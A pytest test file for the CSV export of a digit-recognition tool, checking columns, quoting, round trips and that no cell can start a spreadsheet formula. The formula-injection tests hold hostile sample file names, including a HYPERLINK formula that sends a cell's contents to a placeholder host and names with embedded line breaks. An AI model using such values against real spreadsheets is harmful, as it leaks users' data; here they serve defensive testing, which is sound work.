"""CSV rows shared by the CLI and the app."""

import csv
import io
import subprocess
import sys
from pathlib import Path

import pytest

from signdigits.prediction import Prediction
from signdigits.results import CSV_COLUMNS, FORMULA_STARTS, csv_writer, to_csv, to_row

GOOD = Prediction(name="a.jpg", digit=3, confidence=0.9, probabilities=(0.01,) * 3 + (0.9,) + (0.0125,) * 6)
BAD = Prediction(name="b.jpg", error="not a supported image")


def test_columns():
    assert CSV_COLUMNS == (["file", "digit", "confidence"] + [f"p{d}" for d in range(10)]
                           + ["x0", "y0", "x1", "y1", "error"])  # fmt: skip


def test_row_carries_the_hand_box():
    row = to_row(Prediction(name="a.jpg", digit=1, confidence=1.0, probabilities=(0.0, 1.0) + (0.0,) * 8,
                            box=(10.0, 20.25, 110.0, 220.0), hand_score=0.9))  # fmt: skip
    assert (row["x0"], row["y0"], row["x1"], row["y1"]) == ("10.0", "20.2", "110.0", "220.0")
    no_hand = to_row(Prediction(name="wall.jpg", error="no hand found", hand_score=0.1))
    assert no_hand["x0"] == "" and no_hand["error"] == "no hand found"


def test_row_of_a_prediction():
    row = to_row(GOOD)
    assert list(row) and set(row) == set(CSV_COLUMNS)
    assert row["file"] == "a.jpg" and row["digit"] == 3 and row["error"] == ""
    assert row["confidence"] == "0.900000" and row["p3"] == "0.900000" and row["p0"] == "0.010000"


def test_row_of_an_error():
    row = to_row(BAD)
    assert row["file"] == "b.jpg" and row["error"] == "not a supported image"
    assert all(row[c] == "" for c in CSV_COLUMNS if c not in ("file", "error"))


@pytest.mark.parametrize("name", ["plain.jpg", "comma, quote\" and\nnewline.jpg", "日本語/写真.jpg", "├╗.jpg"])
def test_csv_round_trip(name):
    text = to_csv([GOOD, Prediction(name=name, error="bad, really"), BAD])
    rows = list(csv.DictReader(io.StringIO(text)))
    assert text.splitlines()[0] == ",".join(CSV_COLUMNS)
    assert [r["file"] for r in rows] == ["a.jpg", name, "b.jpg"]
    assert rows[1]["error"] == "bad, really"


@pytest.mark.parametrize("name", ['=HYPERLINK("http://x.example/?"&A1,"click").jpg', "+1.jpg",
                                  "-2+3.jpg", "@SUM(A1).jpg", "\tcmd.jpg", "\rcmd.jpg"])
def test_no_cell_can_start_a_formula(name):
    text = to_csv([Prediction(name=name, error="=also(here)"), GOOD])
    rows = list(csv.DictReader(io.StringIO(text, newline="")))
    assert rows[0]["file"] == "'" + name and rows[0]["error"] == "'=also(here)"
    for row in rows:
        assert not any(cell.startswith(FORMULA_STARTS) for cell in row.values())


@pytest.mark.parametrize("name", ["a\r=cmd().jpg", "a\n=cmd().jpg", "a\r\n@cmd().jpg"])
def test_a_line_break_inside_a_name_starts_no_row(name):
    text = to_csv([Prediction(name=name, error="unreadable")])
    assert [row["file"] for row in csv.DictReader(io.StringIO(text, newline=""))] == [name]
    assert text.count("\r\n") == 2 + name.count("\r\n")  # header, row, and the name's own


@pytest.mark.parametrize("name", ["a=b.jpg", "photos/-1.jpg", "'quoted.jpg", " =space.jpg"])
def test_other_text_is_left_alone(name):
    assert to_row(Prediction(name=name, error="unreadable"))["file"] == name


def test_csv_writer_writes_the_header_once():
    buffer = io.StringIO()
    writer = csv_writer(buffer)
    writer.writerow(to_row(GOOD))
    assert buffer.getvalue().count("file,digit") == 1


def test_the_csv_module_loads_no_tensorflow():
    """Writing rows needs no model: importing the module (a fresh interpreter) loads no TF."""
    code = ("import sys, signdigits.results; "
            "print(sorted({m.split('.')[0] for m in sys.modules} & {'tensorflow', 'keras'}))")
    done = subprocess.run([sys.executable, "-c", code], cwd=Path(__file__).resolve().parents[1],
                          capture_output=True, text=True, check=True)
    assert done.stdout.strip() == "[]", done.stdout + done.stderr
